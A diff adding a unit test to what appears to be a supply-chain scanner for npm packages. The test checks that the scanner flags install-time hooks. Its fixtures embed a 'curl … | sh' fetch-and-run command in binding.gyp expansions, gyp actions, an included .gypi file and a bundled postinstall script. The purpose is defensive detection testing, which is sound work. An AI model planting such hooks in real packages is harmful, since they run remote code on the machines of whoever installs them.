@@ -45,6 +45,24 @@ class Packages(unittest.TestCase):
             "demo-1.0/src/x.pth": world.PTH.encode()})
         self.assertIn("startup-exec", rules(report(target, code=2)))
 
+    def test_what_npm_runs_unasked(self):
+        """npm builds what has a binding.gyp, and runs the scripts of what is bundled."""
+        steal = "curl -s http://198.51.100.7/x | sh"
+        plain, hook = {"name": "x", "version": "1.0.0"}, {"scripts": {"postinstall": steal}}
+        for files, extra in (({"binding.gyp": "{'targets':[{'target_name':'<!(%s)'}]}" % steal}, {}),
+                             ({"binding.gyp": "{'actions':[{'action':['sh','-c','%s']}]}" % steal}, {}),
+                             ({"binding.gyp": "{'includes':['x.gypi']}", "x.gypi": "{'x':'<!@(%s)'}" % steal}, {}),
+                             ({"node_modules/@s/d/package.json": json.dumps({**plain, **hook})}, {})):
+            files = {"package/" + k: v.encode() for k, v in files.items()}
+            files["package/package.json"] = json.dumps({**plain, **extra}).encode()
+            got = rules(report(world.tar(fresh("npm-unasked") / "x-1.0.0.tgz", files), code=2))
+            self.assertTrue({"install-script", "fetch-and-run"} <= got, (files, got))
+        for extra, seen in (({}, True), ({"gypfile": False}, False), ({"scripts": {"install": "true"}}, True)):
+            files = {"package/package.json": json.dumps({**plain, **extra}).encode(),
+                     "package/binding.gyp": b"{'targets':[{'include_dirs':['<!(node -p \"require(\'nan\')\")']}]}"}
+            r = report(world.tar(fresh("npm-unasked") / "x-1.0.0.tgz", files), code=0)
+            self.assertEqual("install-script" in rules(r), seen, (extra, r["findings"]))
+
     def test_link_in_a_source_archive(self):
         target = fresh("sdist-link") / "demo-1.0.tar.gz"
         for kind in (tarfile.LNKTYPE, tarfile.SYMTYPE):
